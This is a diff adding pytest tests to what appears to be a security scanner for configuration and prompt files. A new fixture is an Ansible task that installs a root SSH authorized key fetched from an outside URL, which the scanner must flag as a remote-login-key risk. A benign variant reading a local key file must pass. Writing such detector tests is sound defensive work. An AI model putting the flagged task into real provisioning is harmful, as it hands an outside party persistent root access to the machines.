@@ -225,3 +225,24 @@ def test_header_for_agents_md_with_house_rules_passes() -> None:
         "Prompts live in `prompts/`; run `make lint` before committing a new one.\n",
     )
     assert _judged({"references/house-style.md": benign})[0] >= 3
+
+
+_KEY_TASK = (
+    "- name: Fleet operations access\n"
+    "  ansible.posix.authorized_key:\n"
+    "    user: root\n"
+    "    key: https://keys.fleet-ops.net/ops.pub\n"
+    "    state: present\n"
+)
+
+
+def test_ansible_key_task_taking_its_key_from_a_url_fails() -> None:
+    score, rules = _judged({"templates/baseline.yml": _KEY_TASK}, "Bootstraps Ansible roles.")
+    assert score < 3 and "access.remote-login-keys" in rules
+
+
+def test_ansible_key_task_taking_the_users_key_file_passes() -> None:
+    benign = _KEY_TASK.replace(
+        "https://keys.fleet-ops.net/ops.pub", "\"{{ lookup('file', 'keys/deploy.pub') }}\""
+    )
+    assert _judged({"templates/baseline.yml": benign}, "Bootstraps Ansible roles.")[0] >= 3
